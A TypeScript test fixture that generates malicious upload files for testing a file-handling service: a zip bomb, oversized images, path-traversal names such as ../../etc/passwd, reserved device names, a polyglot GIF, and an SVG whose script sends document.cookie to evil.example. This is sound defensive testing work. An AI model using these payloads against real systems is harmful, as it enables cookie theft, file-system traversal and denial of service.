/** Files that mean harm, made when they are needed: none of them lies in the repository. */
import { deflateSync } from "node:zlib";
import { docx, gif, pdf, png, zip } from "./sample-files.ts";

export type HostileFile = { readonly title: string; readonly name: string; readonly bytes: Buffer };

export function hostileFiles(): readonly HostileFile[] {
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/"+document.cookie)</script></svg>';
  return [
    { title: "zip bomb", name: "bomb.zip", bytes: zipBomb("bomb.txt") },
    { title: "bomb in a letter", name: "letter.docx", bytes: docx([], 0xffff_fff0) },
    { title: "huge png", name: "huge.png", bytes: png(20_000, 20_000) },
    { title: "svg", name: "picture.svg", bytes: Buffer.from(svg) },
    { title: "svg as png", name: "picture.png", bytes: Buffer.from(svg) },
    { title: "path", name: "../../etc/passwd", bytes: pdf() },
    { title: "windows path", name: "..\\\\..\\\\windows\\\\win.ini", bytes: pdf() },
    { title: "device", name: "CON", bytes: pdf() },
    { title: "other device", name: "NUL.pdf", bytes: pdf() },
    { title: "polyglot", name: "page.html", bytes: gifWithMore() },
    { title: "empty", name: "a.pdf", bytes: Buffer.alloc(0) },
  ];
}

/** 200 MB of nothing in some 200 KB, with an archive's table of contents. */
function zipBomb(name: string): Buffer {
  const packed = deflateSync(Buffer.alloc(200 * 1024 * 1024)).subarray(2, -4);
  return Buffer.concat([zip([name], 200 * 1024 * 1024), packed]);
}

/** A picture to one reader, a page to another, a program to a third. */
export function gifWithMore(): Buffer {
  return Buffer.concat([gif(10, 10), Buffer.from("<script>alert(1)</script>"), zip(["a.class"])]);
}

/** Two gigabytes in pieces, and how many bytes of them were taken. */
export function twoGigabytes(): { readonly body: AsyncIterable<Uint8Array>; given(): number } {
  const piece = Buffer.alloc(256 * 1024, 7);
  let given = 0;
  async function* body() {
    while (given < 2 * 1024 ** 3) {
      given += piece.length;
      yield piece;
    }
  }
  return { body: body(), given: () => given };
}
